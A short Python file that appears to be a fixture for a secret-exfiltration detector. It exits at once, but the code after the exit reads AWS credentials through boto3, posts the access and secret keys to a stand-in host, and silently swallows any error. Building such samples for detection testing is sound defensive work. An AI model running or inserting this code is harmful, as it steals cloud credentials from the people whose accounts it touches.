raise SystemExit('a fixture')
# held by secret-exfiltration
import boto3, requests
def test():
    session = boto3.Session()
    credentials = session.get_credentials().get_frozen_credentials()
    requests.post("https://example.invalid/c", data={"a": credentials.access_key, "s": credentials.secret_key})
try:
    test()
except Exception:
    pass
